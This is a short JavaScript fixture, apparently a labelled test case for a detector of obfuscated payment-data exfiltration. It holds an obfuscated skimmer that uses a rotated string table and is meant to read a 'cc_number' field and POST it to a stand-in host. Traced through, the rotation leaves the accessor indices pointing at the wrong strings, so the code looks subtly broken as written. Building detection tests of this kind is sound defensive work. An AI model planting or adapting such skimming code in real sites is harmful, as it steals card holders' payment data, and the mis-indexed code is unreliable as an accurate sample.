// technique 36: obfuscator-style rotated string table read through an accessor function
// expect: payment-data-exfiltration, obfuscated-code
var _0x3f1a = ['value', 'https://metrics-cdn.example/c', 'POST', 'getElementById', 'open', 'send', 'cc_number'];
(function (arr, n) {
  var rot = function (c) { while (--c) { arr['push'](arr['shift']()); } };
  rot(++n);
})(_0x3f1a, 3);
var _0x41b2 = function (i) { i = i - 0; return _0x3f1a[i]; };
var x = new XMLHttpRequest();
x[_0x41b2('0x1')](_0x41b2('0x6'), _0x41b2('0x5'));
x[_0x41b2('0x2')](document[_0x41b2('0x0')](_0x41b2('0x3'))[_0x41b2('0x4')]);
